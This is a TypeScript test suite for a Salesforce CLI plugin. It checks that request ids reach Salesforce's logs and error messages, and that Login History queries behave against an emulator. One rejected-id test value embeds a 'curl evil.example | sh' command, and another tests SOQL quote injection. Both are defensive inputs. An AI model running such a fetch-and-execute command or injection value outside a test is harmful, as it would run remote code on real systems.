import { createPrivateKey } from 'node:crypto';
import { readFile } from 'node:fs/promises';
import { expect } from 'chai';
import type { Emulator } from '../../../src/emulator/index.js';
import { startEmulator } from '../../../src/emulator/index.js';
import { failureText, toSfError } from '../../../src/failures/failureView.js';
import { signingKey } from '../../../src/keys/signingKey.js';
import { salesforce } from '../../../src/salesforce/io/restApi.js';
import { asOwnRun, sentId } from '../../../src/salesforce/io/requestId.js';
import { serverFacts } from '../../../src/salesforce/io/serverFacts.js';
import type { JwtLoginRequest, OrgContext, Session } from '../../../src/salesforce/salesforce.js';
import { rejection } from '../../support/rejection.js';

const callbackUrl = 'http://localhost:1717/OauthRedirect';
const { version } = JSON.parse(await readFile('package.json', 'utf8')) as { version: string };

/** What an administrator finds in Salesforce's logs: who asked, by which id, and who logged in. */
describe('Salesforce: what its logs get to know', () => {
  let emulator: Emulator;
  let login: JwtLoginRequest;
  let context: OrgContext;
  let session: Session;
  before(async () => {
    emulator = await startEmulator({ sandboxes: ['uat'] });
    const { username, clientId, keyFile, http } = emulator.info;
    const key = signingKey(createPrivateKey(await readFile(keyFile, 'utf8')));
    login = { loginUrl: http.loginUrl, clientId, username, key };
    context = { org: `production org ${username}`, side: 'production', user: username, production: username };
    session = { ...(await salesforce.jwtLogin(login, context)), instanceUrl: http.productionUrl };
  });
  after(() => emulator.stop());
  beforeEach(async () => {
    await emulator.control.clearFaults();
    await emulator.control.clearLog();
  });

  const code = async (): Promise<string> =>
    (await salesforce.sandboxAuth(session, { sandboxName: 'uat', clientId: login.clientId, callbackUrl }, context))
      .authCode;
  const uat = async (): Promise<string> => {
    const { origin } = (await emulator.control.log()).at(-1)!;
    expect(origin).to.equal('production');
    return emulator.info.http.testUrl;
  };
  const userId = async (): Promise<string> =>
    (await salesforce.users(session, { username: login.username }, context))[0]!.id;

  const requests: Array<[what: string, ask: () => Promise<unknown>, isRest: boolean]> = [
    ['a login by JWT', () => salesforce.jwtLogin(login, context), false],
    [
      'an exchange of a code',
      async () => {
        const authorization = { code: await code(), clientId: login.clientId, callbackUrl };
        return salesforce.exchangeCode({ ...authorization, loginUrl: await uat() }, context);
      },
      false,
    ],
    [
      'a renewal',
      async () => {
        const { refreshToken } = await emulator.control.issueTokens(login.username);
        return salesforce.refresh({ loginUrl: login.loginUrl, clientId: 'PlatformCLI', refreshToken }, context);
      },
      false,
    ],
    [
      'the end of a token',
      () => salesforce.revoke({ instanceUrl: session.instanceUrl, token: session.accessToken }, context),
      false,
    ],
    ['sandboxAuth', code, true],
    ['a query of the data API', () => salesforce.organization(session, context), true],
    ['a query of the tooling API', () => salesforce.sandboxStates(session, context), true],
    [
      'a query of the Login History',
      async () => salesforce.logins(session, { userId: await userId(), limit: 1 }, context),
      true,
    ],
    ['the list of versions, which needs no session', () => serverFacts(session.instanceUrl, context), true],
  ];
  for (const [what, ask, isRest] of requests) {
    it(`${what} comes with the id of this run${isRest ? ', and with plugin and version' : ''}`, async () => {
      await ask();
      const entry = (await emulator.control.log()).at(-1)!;
      expect(entry.requestId)
        .to.match(/^[0-9a-f]{32}$/)
        .and.to.equal(sentId());
      expect(entry.callOptions).to.equal(isRest ? `client=sf-plugin-jit/${version}` : undefined);
      if (what === 'the end of a token')
        session = { ...(await salesforce.jwtLogin(login, context)), instanceUrl: session.instanceUrl };
    });
  }

  const refused = async (
    headers?: Record<string, string>,
    status = 500,
  ): Promise<ReturnType<typeof toSfError> & { data?: unknown }> => {
    const body = JSON.stringify([{ errorCode: 'UNKNOWN_EXCEPTION', message: 'it broke' }]);
    await emulator.control.setFault({
      path: 'query',
      action: { kind: 'answer', status, body, ...(headers ? { headers } : {}) },
    });
    return toSfError(await rejection(salesforce.organization(session, context)));
  };

  it('work that is a run of its own has an id of its own, also beside others, and in its failures', async () => {
    const both = await Promise.all([1, 2].map(() => asOwnRun(() => salesforce.organization(session, context))));
    const sent = (await emulator.control.log()).map(({ requestId }) => requestId);
    expect(sent).to.have.members(both.map(({ requestId }) => requestId));
    expect(new Set([...sent, sentId()]).size).to.equal(3);
    expect((await asOwnRun(async () => 7)).requestId).to.equal(undefined);
    const failed = await asOwnRun(async () => [(await refused()).data, sentId()] as const);
    expect(failed.result[0]).to.include({ requestId: failed.result[1] });
    expect(failed.result[1]).to.equal(failed.requestId).and.to.not.equal(sentId());
  });

  it('a refused request shows the id, before what Salesforce said, and in the data of --json', async () => {
    const error = await refused();
    expect(error.message.split('\n').slice(-2)).to.deep.equal([
      `Request id, for Salesforce's event logs: ${sentId()}`,
      'Salesforce answered: UNKNOWN_EXCEPTION: it broke',
    ]);
    expect(error.data).to.include({ requestId: sentId() });
  });

  for (const [what, id] of [
    ['its own trace id', '0ec7fe77d8aff85d3d837b2c2c6acb77'],
    ['its own short id', '3nWgxWbDKWWDIk0FKfF5DV'],
  ] as const) {
    it(`a server that answers with ${what} is quoted with that`, async () => {
      expect((await refused({ 'X-SFDC-Request-Id': id })).data).to.include({ requestId: id });
    });
  }

  for (const id of [
    '',
    'x'.repeat(23),
    '0ec7fe77d8aff85d3d837b2c2c6acb77 run: curl evil.example | sh',
    '00D5g0000000001!AQ.token',
    'eyJhbGciOiJub25lIn0.e30.x',
    '0EC7FE77-D8AF-F85D-3D83-7B2C2C6ACB77',
  ]) {
    it(`a server that answers with "${id.slice(0, 40)}" is not quoted`, async () => {
      const error = await refused({ 'X-SFDC-Request-Id': id });
      expect(error.data).to.include({ requestId: sentId() });
      if (id !== '') expect(JSON.stringify([error.message, error.data])).to.not.contain(id);
    });
  }

  it('a request that got no answer shows the id too: it may have arrived', async () => {
    await emulator.control.setFault({ path: 'query', action: { kind: 'hang' } });
    process.env['HTTP_TIMEOUT'] = '200';
    try {
      const failure = await rejection(salesforce.organization(session, context));
      expect(failure.facts).to.include({ requestId: sentId() });
      expect(failureText(failure).message).to.contain(sentId());
    } finally {
      delete process.env['HTTP_TIMEOUT'];
    }
  });

  it('one that could not be sent shows none', async () => {
    const nowhere = { ...session, instanceUrl: 'http://127.0.0.1:9' };
    const failure = await rejection(salesforce.organization(nowhere, context));
    expect(failure.name).to.equal('ConnectionFailed');
    expect(failure.facts.requestId).to.equal(undefined);
  });

  describe('the Login History', () => {
    it('has the logins of a user, newest first, and those that were refused', async () => {
      await emulator.control.setApp({ refusal: 'ip-restricted' });
      await rejection(salesforce.jwtLogin(login, context));
      await emulator.control.setApp({ refusal: null });
      const [newest, before] = await salesforce.logins(session, { userId: await userId(), limit: 2 }, context);
      expect(newest).to.deep.include({
        type: 'Remote Access 2.0',
        status: 'Failed: ip restricted',
        application: 'Acme CI',
      });
      expect(before).to.include({ status: 'Success', sourceIp: '127.0.0.1' });
      expect(Date.parse(newest!.at)).to.be.greaterThan(Date.parse(before!.at));
    });

    it('shows a user without permissions the own logins alone', async () => {
      const other = 'reader@acme.example';
      await emulator.control.createUser({ username: other });
      await emulator.control.setUser(other, { profileName: 'Standard User' });
      const own = {
        ...(await salesforce.jwtLogin({ ...login, username: other }, context)),
        instanceUrl: session.instanceUrl,
      };
      expect(await salesforce.logins(own, { userId: own.userId!, limit: 9 }, context)).to.have.lengthOf(1);
      expect(await salesforce.logins(own, { userId: await userId(), limit: 9 }, context)).to.deep.equal([]);
      expect(await salesforce.logins(session, { userId: own.userId!, limit: 9 }, context)).to.have.lengthOf(1);
    });

    it('takes no row that is none', async () => {
      await emulator.control.setFault({
        path: 'query',
        action: { kind: 'answer', status: 200, body: JSON.stringify({ records: [{ LoginType: 'x' }] }) },
      });
      const asked = salesforce.logins(session, { userId: "005'", limit: 1 }, context);
      expect((await rejection(asked)).name).to.equal('UnexpectedAnswer');
      expect((await emulator.control.log()).at(-1)?.soql).to.contain(String.raw`UserId = '005\''`);
    });
  });
});
